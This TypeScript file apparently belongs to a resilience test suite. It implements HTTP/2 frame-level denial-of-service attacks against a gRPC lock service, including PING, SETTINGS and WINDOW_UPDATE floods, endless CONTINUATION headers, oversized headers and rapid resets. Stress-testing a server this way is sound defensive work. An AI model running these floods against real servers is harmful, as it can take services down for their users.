// Attacks by frames: floods of those that HTTP/2 lets every client send, headers without end, and calls that are reset
// as soon as they are open. Each floods at a bounded rate, in batches that the server can read at once.

import { setTimeout as sleep } from "node:timers/promises";
import {
  callFrame,
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FRAME,
  FRAME_BYTES_MAX,
  frame,
  hpack,
  type RawConnection,
  settingsOf,
  uint32,
} from "../../support/http2-frames.ts";
import { type Attack, atOnce, type Target } from "../target.ts";

const FLOODERS = 10;
/** Of calls, which cost more than other frames. */
const CALLERS = 4;
/** Each flooder sends a batch this often, and comes back this long after the server has hung up. */
const EVERY_MS = 20;
const REST_MS = 100;
/** Below the 1,000 answers to PING and SETTINGS that may wait for a client that does not read. */
const BATCH = 900;
const CANCEL = uint32(8);

const many = (one: Buffer, count: number) => Buffer.concat(Array<Buffer>(count).fill(one));

async function flood(target: Target, batch: (turn: number) => Buffer): Promise<void> {
  const flooding = atOnce(FLOODERS, () => {
    let turn = 0;
    return target.again(async (connection) => {
      await connection.send(batch(turn++));
      await sleep(EVERY_MS);
    }, REST_MS);
  });
  target.begun();
  await flooding;
}

/** Calls with these headers, over and over, cut into as many frames as they need. */
async function callsWith(target: Target, headers: readonly [string, string][]): Promise<void> {
  const block = hpack([...callHeaders("/rowlock.v1.LockService/GetLock"), ...headers]);
  const call = (stream: number) => {
    const frames: Buffer[] = [];
    for (let from = 0; from < block.length; from += FRAME_BYTES_MAX) {
      const isLast = from + FRAME_BYTES_MAX >= block.length;
      const type = from === 0 ? FRAME.headers : FRAME.continuation;
      const flags = (from === 0 ? END_STREAM : 0) | (isLast ? END_HEADERS : 0);
      frames.push(frame(type, stream, block.subarray(from, from + FRAME_BYTES_MAX), flags));
    }
    return Buffer.concat(frames);
  };
  await callsInOrder(target, 20, call);
}

/** `count` calls every EVERY_MS on each connection, each on the next stream. */
async function callsInOrder(target: Target, count: number, call: (stream: number) => Buffer): Promise<void> {
  const flooding = atOnce(CALLERS, () => {
    const next = new WeakMap<RawConnection, number>();
    return target.again(async (connection) => {
      const first = next.get(connection) ?? 1;
      next.set(connection, first + 2 * count);
      const calls = Array.from({ length: count }, (_, index) => call(first + 2 * index));
      await connection.send(Buffer.concat(calls));
      await sleep(EVERY_MS);
    }, REST_MS);
  });
  target.begun();
  await flooding;
}

/** Headers of a call that never end. */
async function endlessHeaders(target: Target, next: Buffer): Promise<void> {
  const flooding = atOnce(FLOODERS, () => {
    const hasBegun = new WeakSet<RawConnection>();
    const first = frame(FRAME.headers, 1, hpack(callHeaders("/rowlock.v1.LockService/GetLock")));
    const more = async (connection: RawConnection) => {
      await connection.send(hasBegun.has(connection) ? next : first);
      hasBegun.add(connection);
      await sleep(EVERY_MS);
    };
    // Nothing may stand between the frames of one header block.
    return target.again(more, REST_MS, { isMute: true });
  });
  target.begun();
  await flooding;
}

export const FRAMES: Readonly<Record<string, Attack>> = {
  pings: (target) => flood(target, () => many(frame(FRAME.ping, 0, Buffer.alloc(8)), BATCH)),
  settings: (target) => flood(target, () => many(frame(FRAME.settings, 0, settingsOf({ 4: 1_000 })), BATCH)),
  "long settings": (target) => {
    const unknown = Object.fromEntries(Array.from({ length: 2_000 }, (_, index) => [10 + index, 1]));
    return flood(target, () => frame(FRAME.settings, 0, settingsOf(unknown)));
  },
  priorities: (target) =>
    flood(target, () => many(frame(FRAME.priority, 3, Buffer.from([0, 0, 0, 0, 1])), BATCH)),
  "window updates": (target) => flood(target, () => many(frame(FRAME.windowUpdate, 0, uint32(1)), BATCH)),
  "unknown frames": (target) => flood(target, () => many(frame(0xbb, 0), BATCH)),
  "empty data": (target) =>
    flood(target, (turn) =>
      Buffer.concat([...(turn === 0 ? [callFrame(1, "Session")] : []), many(frame(FRAME.data, 1), BATCH)]),
    ),
  "data beyond the window": (target) =>
    flood(target, (turn) =>
      Buffer.concat([
        callFrame(2 * turn + 1, "Session"),
        many(frame(FRAME.data, 2 * turn + 1, Buffer.alloc(FRAME_BYTES_MAX)), 20),
      ]),
    ),
  "many headers": (target) =>
    callsWith(
      target,
      Array.from({ length: 1_000 }, (_, index) => [`x-${index}`, "b"]),
    ),
  "large headers": (target) =>
    callsWith(
      target,
      Array.from({ length: 20 }, (_, index) => [`x-${index}`, "b".repeat(10_000)]),
    ),
  "endless headers": (target) =>
    endlessHeaders(target, frame(FRAME.continuation, 1, hpack([["x-a", "b".repeat(8_000)]]))),
  "endless headers of nothing": (target) => endlessHeaders(target, frame(FRAME.continuation, 1)),
  "rapid resets": (target) =>
    callsInOrder(target, 50, (stream) =>
      Buffer.concat([callFrame(stream, "WaitInQueue"), frame(FRAME.reset, stream, CANCEL)]),
    ),
};
